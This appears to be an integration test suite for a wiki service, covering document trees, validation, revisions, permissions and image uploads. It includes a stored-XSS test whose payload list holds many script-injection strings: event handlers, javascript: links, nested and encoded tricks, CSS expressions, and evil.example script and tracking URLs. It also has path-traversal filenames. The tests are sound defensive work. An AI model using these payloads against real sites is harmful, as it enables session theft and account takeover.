// The wiki over real HTTP: the tree (flat list → tree by id / parentId), groups and documents, the group
// delete through /wikigroup/select?id, stale saves, image uploads with the image service's rules, and the
// stored-XSS sweep: every payload is saved, read back, parsed the way a browser parses it, and checked
// against the allow-list (no script, no handler, no foreign scheme, no foreign image), while ordinary rich
// text keeps its structure.
import { JSDOM } from 'jsdom';
import { serverForSuite, testStores } from '../../testing/server.js';
import { LIMITS, MSG } from './index.js';

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const OWN_IMG = '/files/wiki/0f8fad5b-d9cb-469f-a165-70867728950e.png';

/** What wangEditor writes for headings, marks, colours, lists, tables, code, links, images and to-dos. */
const RICH = [
  '<h1>标题</h1><h3>小节</h3>',
  '<p style="text-align: center; line-height: 1.5;"><span style="color: rgb(225, 60, 57); background-color: rgb(255, 229, 143); font-size: 19px;">红字</span><strong>粗</strong><em>斜</em><u>下</u><s>删</s><code>c</code><sup>上</sup><sub>下</sub></p>',
  '<ul><li>一</li><li>二</li></ul><ol><li>三</li></ol><blockquote>引用</blockquote>',
  '<table style="width: auto;"><tbody><tr><th colSpan="1" rowSpan="1" width="auto">表头</th><th>列</th></tr><tr><td colSpan="2" rowSpan="1" width="auto">值</td></tr></tbody></table>',
  '<pre><code class="language-javascript">const a = 1 &lt; 2;</code></pre>',
  '<p><a href="https://example.com/a?b=1" target="_blank">链接</a> <a href="mailto:dev@example.com">邮件</a></p>',
  `<p><img src="${OWN_IMG}" alt="图" style="width: 50%;"/></p>`,
  '<div data-w-e-type="todo"><input type="checkbox" disabled checked>待办</div><hr/><p><br></p>',
].join('');

/** The usual stored-XSS payloads, and a few nested and encoded tricks. */
const XSS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=alert(1)>',
  `<img src="${OWN_IMG}" onerror="alert(1)" onload="alert(2)">`,
  '<img src="https://evil.example/track.png">',
  '<img src="//evil.example/track.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="/files/../api/uams/logout">',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">b</a>',
  '<a href="&#106;&#97;vascript:alert(1)">c</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">c2</a>',
  '<a href=" javascript:alert(1)">d</a>',
  '<a href="java\tscript:alert(1)">e</a>',
  '<a href="vbscript:msgbox(1)">f</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">g</a>',
  '<a href="//evil.example/">h</a>',
  '<div onmouseover="alert(1)">i</div>',
  '<p onclick=alert(1) style="color:red">j</p>',
  '<details open ontoggle=alert(1)>k</details>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>l</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>m</button></form>',
  '<input type="text" onfocus=alert(1) autofocus value="n">',
  '<input type="image" src="x" onerror="alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">o</p>',
  '<p style="width: expression(alert(1))">p</p>',
  '<p style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">q</p>',
  '<p style="color: red; background-image: url(&quot;javascript:alert(1)&quot;)">r</p>',
  '<p style="font-family: x\\3a expression(alert(1))">s</p>',
  '<code class="language-js x-evil" onclick="alert(1)">t</code>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<p>u</p><!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<a href="https://example.com" target="_self" onclick="alert(1)">v</a>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<x onpointerenter=alert(1)>w</x>',
];

const ALLOWED_TAGS = new Set('P BR SPAN DIV STRONG B EM I U S DEL SUB SUP CODE PRE BLOCKQUOTE HR H1 H2 H3 H4 H5 H6 UL OL LI A IMG INPUT TABLE THEAD TBODY TFOOT TR TH TD COLGROUP COL'.split(' '));
const ALLOWED_STYLES = new Set(['color', 'background-color', 'font-size', 'font-family', 'font-weight', 'text-align', 'text-indent', 'line-height', 'text-decoration', 'width', 'height']);

/** Every fault of a stored body, as a browser's parser reads it. */
function faults(html: string): string[] {
  const doc = new JSDOM(`<!doctype html><body>${html}</body>`).window.document;
  const out: string[] = [];
  for (const el of doc.body.querySelectorAll('*')) {
    if (!ALLOWED_TAGS.has(el.tagName)) out.push(`tag ${el.tagName}`);
    for (const a of el.getAttributeNames()) {
      if (/^on/i.test(a)) out.push(`handler ${a}`);
      if (['srcdoc', 'action', 'formaction', 'xlink:href', 'background', 'autofocus', 'value'].includes(a.toLowerCase())) out.push(`attribute ${a}`);
    }
    const href = el.getAttribute('href');
    if (href !== null && !/^(https?:\/\/[^/]|mailto:)/i.test(href.trim())) out.push(`href ${href}`);
    const src = el.getAttribute('src');
    if (src !== null && !/^\/files\/[a-z0-9-]+\/[0-9a-f-]{36}\.(png|jpe?g|webp|svg)$/.test(src)) out.push(`src ${src}`);
    if (el.tagName === 'INPUT' && (el.getAttribute('type') !== 'checkbox' || !el.hasAttribute('disabled'))) out.push('input not a disabled checkbox');
    const style = (el as HTMLElement).style;
    for (let i = 0; i < style.length; i++) if (!ALLOWED_STYLES.has(style[i])) out.push(`style ${style[i]}`);
    const raw = el.getAttribute('style') ?? '';
    if (/url\s*\(|expression|\\/i.test(raw)) out.push(`style value ${raw}`);
    const cls = el.getAttribute('class');
    if (cls !== null && !(el.tagName === 'CODE' && /^language-[\w-]+$/.test(cls))) out.push(`class ${cls}`);
  }
  if (/<script|javascript:|vbscript:/i.test(doc.body.innerHTML)) out.push('script text survived as markup');
  return out;
}

describe.each(testStores)('wiki (%s store)', (store) => {
  const s = serverForSuite({ store });

  const tree = async (token = s.token) => (await s.request('POST', '/api/doc/wikigroup/select', {}, token)).body;
  const saveGroup = (body: object, token = s.token) => s.request('POST', '/api/doc/wikigroup/save', body, token);
  const saveDoc = (body: object, token = s.token) => s.request('POST', '/api/doc/wikidetail/save', body, token);
  const getDoc = async (id: number) => (await s.request('GET', `/api/doc/wikidetail/get?id=${id}`)).body;

  it('builds groups and documents into a flat list with parents; reads a document with its people and times', async () => {
    const g1 = await saveGroup({ title: '  开发规范  ', parentId: 0 });
    expect(g1.body).toMatchObject({ status: 0, msg: '保存成功' });
    const g2 = await saveGroup({ title: '接口约定', parentId: g1.body.data });
    const dev = await s.loginAs('developer');
    const d1 = await saveDoc({ title: '命名', docContent: '<p>小写</p>', docType: 1, parentId: g2.body.data }, dev);
    expect(d1.body).toMatchObject({ status: 0, msg: '保存成功' });
    expect(typeof d1.body.data).toBe('number');
    const list = await tree();
    expect(list.status).toBe(0);
    const byId = new Map(list.data.map((n: any) => [n.id, n]));
    expect(byId.get(g1.body.data)).toMatchObject({ title: '开发规范', parentId: 0, docType: 0 });
    expect(byId.get(g2.body.data)).toMatchObject({ title: '接口约定', parentId: g1.body.data, docType: 0 });
    expect(byId.get(d1.body.data)).toMatchObject({ title: '命名', parentId: g2.body.data, docType: 1, createUser: 'developer' });
    // the tree never carries bodies
    expect(list.data.every((n: any) => !('docContent' in n))).toBe(true);
    const doc = await getDoc(d1.body.data);
    expect(doc.data).toMatchObject({ title: '命名', docContent: '<p>小写</p>', docType: 1, createUser: 'developer', updateUser: 'developer', revision: 1 });
    expect(doc.data.createTime).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
    // edited by another user: the last modifier changes, the creator stays
    const edit = await saveDoc({ id: d1.body.data, title: '命名规则', docContent: '<p>小写加下划线</p>', docType: 1, parentId: g2.body.data, revision: 1 });
    expect(edit.body.status).toBe(0);
    expect((await getDoc(d1.body.data)).data).toMatchObject({ title: '命名规则', createUser: 'developer', updateUser: 'admin', revision: 2 });
  });

  it('checks titles, parents and revisions with clear messages', async () => {
    expect((await saveGroup({ title: '   ' })).body).toMatchObject({ status: 1, msg: MSG.titleRequired });
    expect((await saveDoc({ title: '', docContent: '' })).body).toMatchObject({ status: 1, msg: '请输入标题' });
    expect((await saveDoc({ title: '长'.repeat(LIMITS.title + 1) })).body).toMatchObject({ status: 1, msg: MSG.titleTooLong });
    expect((await saveDoc({ title: '长'.repeat(LIMITS.title) })).body.status).toBe(0);
    expect((await saveDoc({ title: 'x', parentId: 999999 })).body).toMatchObject({ status: 1, msg: MSG.noGroup });
    const d = (await saveDoc({ title: '一篇' })).body.data;
    expect((await saveDoc({ title: 'x', parentId: d })).body).toMatchObject({ status: 1, msg: MSG.parentNotFolder });
    expect((await saveDoc({ title: 'x', docType: 0 })).body.status).toBe(1);
    expect((await saveDoc({ title: 'x', unknown: 1 })).body.status).toBe(1);
    // a group moved under itself or its child
    const a = (await saveGroup({ title: 'A' })).body.data;
    const b = (await saveGroup({ title: 'B', parentId: a })).body.data;
    expect((await saveGroup({ id: a, title: 'A', parentId: b })).body).toMatchObject({ status: 1, msg: MSG.underItself('A') });
    expect((await saveGroup({ id: a, title: 'A', parentId: a })).body).toMatchObject({ status: 1, msg: MSG.underItself('A') });
    // a document id is not a group and the other way round
    expect((await saveGroup({ id: d, title: 'x' })).body).toMatchObject({ status: 1, msg: MSG.noGroup });
    expect((await saveDoc({ id: a, title: 'x' })).body).toMatchObject({ status: 1, msg: MSG.noDoc });
    expect((await s.request('GET', `/api/doc/wikidetail/get?id=${a}`)).body).toMatchObject({ status: 1, msg: MSG.noDoc });
    expect((await s.request('GET', '/api/doc/wikidetail/get?id=abc')).body.status).toBe(1);
  });

  it('refuses a stale save: exactly one of several saves from one revision passes', async () => {
    const id = (await saveDoc({ title: '并发', docContent: '<p>0</p>' })).body.data;
    const first = await saveDoc({ id, title: '并发', docContent: '<p>1</p>', revision: 1 });
    expect(first.body.status).toBe(0);
    const second = await saveDoc({ id, title: '并发', docContent: '<p>别人的</p>', revision: 1 });
    expect(second.body).toMatchObject({ status: 1, msg: MSG.stale(2) });
    expect((await getDoc(id)).data.docContent).toBe('<p>1</p>');
    const race = await Promise.all(Array.from({ length: 6 }, (_, i) => saveDoc({ id, title: '并发', docContent: `<p>r${i}</p>`, revision: 2 })));
    expect(race.filter((r) => r.body.status === 0)).toHaveLength(1);
    expect((await getDoc(id)).data.revision).toBe(3);
  });

  it('deletes a group through select?id only when empty, and documents through delete?id; all confirmed by the list', async () => {
    const g = (await saveGroup({ title: '待删分组' })).body.data;
    const child = (await saveGroup({ title: '子分组', parentId: g })).body.data;
    const doc = (await saveDoc({ title: '待删文档', parentId: child })).body.data;
    const delGroup = (id: number, token = s.token) => s.request('POST', `/api/doc/wikigroup/select?id=${id}`, {}, token);
    expect((await delGroup(g)).body).toMatchObject({ status: 1, msg: MSG.notEmpty('待删分组') });
    expect((await delGroup(child)).body).toMatchObject({ status: 1, msg: MSG.notEmpty('子分组') });
    // a document is not deleted through the group call, nor a group through the document call
    expect((await delGroup(doc)).body).toMatchObject({ status: 1, msg: MSG.noGroup });
    expect((await s.request('POST', `/api/doc/wikidetail/delete?id=${child}`)).body).toMatchObject({ status: 1, msg: MSG.noDoc });
    expect((await s.request('POST', `/api/doc/wikidetail/delete?id=${doc}`)).body).toMatchObject({ status: 0, msg: '删除成功' });
    expect((await delGroup(child)).body).toMatchObject({ status: 0, msg: '删除成功' });
    expect((await delGroup(g)).body).toMatchObject({ status: 0 });
    const ids = (await tree()).data.map((n: any) => n.id);
    expect(ids).not.toContain(g);
    expect(ids).not.toContain(doc);
  });

  it('lets readers read and only editors write, decided on the server', async () => {
    const approver = await s.loginAs('bizapprover');
    expect((await tree(approver)).status).toBe(0);
    const g = (await saveGroup({ title: '只读' })).body.data;
    const d = (await saveDoc({ title: '只读文档' })).body.data;
    expect((await s.request('GET', `/api/doc/wikidetail/get?id=${d}`, undefined, approver)).body.status).toBe(0);
    for (const r of [
      await saveGroup({ title: 'x' }, approver),
      await saveDoc({ title: 'x' }, approver),
      await s.request('POST', `/api/doc/wikigroup/select?id=${g}`, {}, approver),
      await s.request('POST', `/api/doc/wikidetail/delete?id=${d}`, undefined, approver),
      await s.request('POST', '/api/doc/wikidetail/preview', { docContent: '<p>x</p>' }, approver),
    ]) {
      expect(r.http).toBe(403);
      expect(r.body.status).toBe(1);
    }
    expect((await tree(null as never)).status).toBe(2);
  });

  it('stores no stored-XSS payload, alone or nested in rich text, and renders none back', async () => {
    const all = XSS.join('\n');
    const id = (await saveDoc({ title: 'XSS', docContent: `${RICH}${all}` })).body.data;
    const stored: string = (await getDoc(id)).data.docContent;
    expect(faults(stored)).toEqual([]);
    for (const payload of XSS) {
      const r = await s.request('POST', '/api/doc/wikidetail/preview', { docContent: `<p>前</p>${payload}<p>后</p>` });
      expect(r.body.status).toBe(0);
      expect({ payload, faults: faults(r.body.data) }).toEqual({ payload, faults: [] });
      expect(r.body.data).toContain('<p>前</p>');
    }
  });

  it('keeps ordinary rich text intact: structure, marks, styles, tables, code, links, own images, to-dos', async () => {
    const id = (await saveDoc({ title: '富文本', docContent: RICH })).body.data;
    const stored: string = (await getDoc(id)).data.docContent;
    expect(faults(stored)).toEqual([]);
    const before = new JSDOM(`<body>${RICH}</body>`).window.document.body;
    const after = new JSDOM(`<body>${stored}</body>`).window.document.body;
    // same elements in the same order with the same text
    const shape = (b: HTMLElement) => [...b.querySelectorAll('*')].map((e) => e.tagName);
    expect(shape(after)).toEqual(shape(before));
    expect(after.textContent).toBe(before.textContent);
    expect(after.querySelector('p')!.getAttribute('style')).toBe('text-align:center;line-height:1.5');
    expect(after.querySelector('span')!.getAttribute('style')).toContain('color:rgb(225, 60, 57)');
    expect(after.querySelector('td')!.getAttribute('colspan')).toBe('2');
    expect(after.querySelector('pre code')!.className).toBe('language-javascript');
    expect(after.querySelector('pre code')!.textContent).toBe('const a = 1 < 2;');
    expect(after.querySelector('a')!.getAttribute('href')).toBe('https://example.com/a?b=1');
    expect(after.querySelector('a')!.getAttribute('target')).toBe('_blank');
    expect(after.querySelector('a')!.getAttribute('rel')).toContain('noopener');
    expect(after.querySelector('img')!.getAttribute('src')).toBe(OWN_IMG);
    expect(after.querySelector('input')!.hasAttribute('checked')).toBe(true);
  });

  it('refuses an oversized body', async () => {
    const r = await saveDoc({ title: '大', docContent: `<p>${'字'.repeat(LIMITS.body)}</p>` });
    expect(r.body.status).toBe(1);
    expect(r.http).toBeLessThan(500);
  });

  describe('files', () => {
    const upload = async (path: string, files: Array<{ name: string; data: Buffer }>, fields: Record<string, string> = { fileBizType: 'wiki' }, token: string | null = s.token) => {
      const form = new FormData();
      for (const [k, v] of Object.entries(fields)) form.append(k, v);
      for (const f of files) form.append('file', new Blob([new Uint8Array(f.data)]), f.name);
      const res = await fetch(`${s.url}/api/doc/file/${path}`, { method: 'POST', body: form, headers: token ? { authorization: `Bearer ${token}` } : {} });
      return { http: res.status, body: (await res.json()) as { status: number; msg: string; data: any } };
    };

    it('uploads a pasted image and answers url and alt; the url is served and survives sanitizing', async () => {
      const r = await upload('upload', [{ name: '截图.png', data: PNG }]);
      expect(r.body).toMatchObject({ status: 0, msg: '上传文件成功', data: { alt: '截图' } });
      expect(r.body.data.url).toMatch(/^\/files\/wiki\/[0-9a-f-]{36}\.png$/);
      const file = await fetch(s.url + r.body.data.url);
      expect(file.status).toBe(200);
      expect(file.headers.get('content-type')).toBe('image/png');
      const id = (await saveDoc({ title: '带图', docContent: `<p><img src="${r.body.data.url}" alt="截图"></p>` })).body.data;
      expect((await getDoc(id)).data.docContent).toContain(r.body.data.url);
      // uploadOne answers the stored record
      const one = await upload('uploadOne', [{ name: 'b.png', data: PNG }]);
      expect(one.body.data).toMatchObject({ fileName: 'b.png', extName: 'png', bucketName: 'wiki' });
    });

    it('applies the image rules: type by content, one file a call, names, biz type, permission', async () => {
      expect((await upload('upload', [{ name: 'fake.png', data: Buffer.from('not an image') }])).body.msg).toContain('只能上传.jpg,.jpeg,.png,.webp,.svg文件!');
      expect((await upload('upload', [{ name: 'a.gif', data: PNG }])).body).toMatchObject({ status: 1, msg: '只能上传.jpg,.jpeg,.png,.webp,.svg文件!' });
      expect((await upload('upload', [{ name: 'a.png', data: PNG }, { name: 'b.png', data: PNG }])).body).toMatchObject({ status: 1, msg: '超过了限制，每次只能上传1个文件。' });
      expect((await upload('upload', [{ name: '../../x.png', data: PNG }])).body).toMatchObject({ status: 1, msg: '文件名不合法' });
      expect((await upload('upload', [])).body).toMatchObject({ status: 1, msg: '请先上传文件' });
      expect((await upload('upload', [{ name: 'a.png', data: PNG }], { fileBizType: '../etc' })).body.status).toBe(1);
      const approver = await s.loginAs('bizapprover');
      expect((await upload('upload', [{ name: 'a.png', data: PNG }], undefined, approver)).http).toBe(403);
      expect((await upload('upload', [{ name: 'a.png', data: PNG }], undefined, null)).http).toBe(401);
    });
  });
});
